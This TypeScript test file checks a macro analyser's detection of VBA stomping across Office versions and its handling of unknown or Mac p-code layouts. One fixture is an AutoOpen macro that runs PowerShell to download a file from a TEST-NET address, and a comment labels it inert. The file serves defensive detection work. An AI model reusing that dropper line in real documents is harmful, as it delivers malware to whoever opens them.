/**
 * Stomping across the VBA builds the p-code reader knows (public notes: VBA5 0x5E–0x6A, VBA6
 * 0x6B–0x96, VBA7 0x97–0xB2, 32- and 64-bit) and the ones it does not: an unknown `_VBA_PROJECT`
 * version or a big-endian (Mac) cache is a low `vba.pcode-not-understood` note, never `vba.stomped`.
 * Layouts are built in code from the same public notes; no Office-written p-code was available.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { buildPcodeProject, type PcodeProjectSpec } from '../../../test/builders/pcode.js';
import { makeContext } from '../../../test/support/engine-context.js';
import { verdictOf } from '../../core/index.js';
import { parseCfb } from '../../formats/cfb/index.js';
import { pcodeDialectOf, readVbaCompiled } from '../../formats/ovba/index.js';
import { vbaEngine } from './index.js';

// Inert: a TEST-NET address; the command is text that is never run.
const DROPPER = [
  'Sub AutoOpen()',
  '    Shell "powershell -nop -c iwr http://192.0.2.10/a.bin"',
  'End Sub',
].join('\n');
const BENIGN = ['Sub AutoOpen()', '    MsgBox "Document ready"', 'End Sub'].join('\n');
const STOMPED = { modules: [{ name: 'Module1', source: BENIGN, compiledFrom: DROPPER }] };

const ids = async (spec: PcodeProjectSpec) => {
  const out = await vbaEngine.analyze(makeContext(buildPcodeProject(spec).bytes));
  return { out, ids: (out.findings ?? []).map((f) => f.id) };
};

describe('vba stomping: the VBA builds of Office 97–2019/365', () => {
  const builds: [string, number, number?][] = [
    ['Office 97 (VBA5)', 0x5e],
    ['Office 2000 (VBA6)', 0x6b],
    ['Office 2010 32-bit (VBA7)', 0x97],
    ['Office 2013 64-bit', 0xa6, 3],
    ['Office 2016 32-bit', 0xaf],
    ['Office 2016–2019 64-bit', 0xb2, 3],
  ];
  for (const [name, version, sysKind] of builds) {
    test(`${name}, version 0x${version.toString(16)}: stomped → vba.stomped; agreeing → nothing`, async () => {
      const extra = sysKind ? { sysKind } : {};
      const stomped = await ids({ ...STOMPED, version, ...extra });
      assert.ok(stomped.ids.includes('vba.stomped'), `${name}: ${stomped.ids.join(' ')}`);
      const clean = await ids({
        modules: [{ name: 'Module1', source: DROPPER }],
        version,
        ...extra,
      });
      assert.ok(!clean.ids.includes('vba.stomped'), name);
      assert.ok(!clean.ids.includes('vba.pcode-not-understood'), name);
    });
  }

  test('the dialect follows the version; PROJECTSYSKIND 3 marks 64-bit', () => {
    assert.deepEqual([0x5d, 0x5e, 0x6a, 0x6b, 0x96, 0x97, 0xb2, 0xb3, 0xffff].map(pcodeDialectOf), [
      undefined,
      'vba5',
      'vba5',
      'vba6',
      'vba6',
      'vba7',
      'vba7',
      undefined,
      undefined,
    ]);
    const cfb = parseCfb(buildPcodeProject({ ...STOMPED, version: 0xb2, sysKind: 3 }).bytes);
    const [project] = readVbaCompiled(cfb);
    assert.equal(project?.is64Bit, true);
    assert.equal(project?.dialect, 'vba7');
  });
});

describe('vba stomping: layouts the reader does not know are a note, not a verdict', () => {
  for (const [name, spec] of [
    ['an unknown version (0x00C8, a future build)', { ...STOMPED, version: 0xc8 }],
    ['a version below Office 97 (0x0040)', { ...STOMPED, version: 0x40 }],
    ['a big-endian (Mac) _VBA_PROJECT', { ...STOMPED, reserved3: 0x000e }],
  ] as const) {
    test(`${name} → vba.pcode-not-understood (low), no vba.stomped`, async () => {
      const { out, ids: found } = await ids(spec);
      assert.ok(found.includes('vba.pcode-not-understood'), `${name}: ${found.join(' ')}`);
      assert.ok(!found.includes('vba.stomped'), name);
      const note = out.findings?.find((f) => f.id === 'vba.pcode-not-understood');
      assert.equal(note?.severity, 'low');
      assert.match(note?.evidence[0]?.location ?? '', /VBA\/_VBA_PROJECT$/);
    });
  }

  test('a benign macro with an unknown version stays clean', async () => {
    const { out } = await ids({
      modules: [{ name: 'M', source: 'Sub A()\n  x = 1\nEnd Sub' }],
      version: 0xc8,
    });
    assert.equal(verdictOf(out.findings ?? []), 'clean');
  });

  test('a line directory whose word after 0xCAFE is not 0x0001 is still read', async () => {
    const { ids: found } = await ids({ ...STOMPED, directoryWord: 0x0003 });
    assert.ok(found.includes('vba.stomped'), found.join(' '));
  });
});
